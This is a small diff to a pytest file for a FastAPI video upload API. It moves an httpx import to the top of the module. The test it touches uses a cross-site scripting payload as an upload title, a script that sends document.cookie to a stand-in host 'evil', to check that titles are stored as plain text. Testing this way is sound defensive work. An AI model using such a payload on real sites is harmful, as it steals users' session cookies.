@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 
+import httpx
 import pytest
 from fastapi.testclient import TestClient
 
@@ -81,8 +82,6 @@ def test_html_titles_are_stored_and_returned_as_text(client: TestClient, user_to
     title = "<script>fetch('//evil/'+document.cookie)</script>&amp;"
     out = client.post("/api/v1/uploads", headers=auth(user_token), json={
         "filename": "a.mp4", "size": 3, "content_type": "video/mp4", "title": title}).json()
-    import httpx
-
     assert httpx.put(out["put"]["url"], content=b"abc",
                      headers=out["put"]["headers"]).status_code == 200
     done = client.post(f"/api/v1/uploads/{out['video_id']}/complete", headers=auth(user_token))
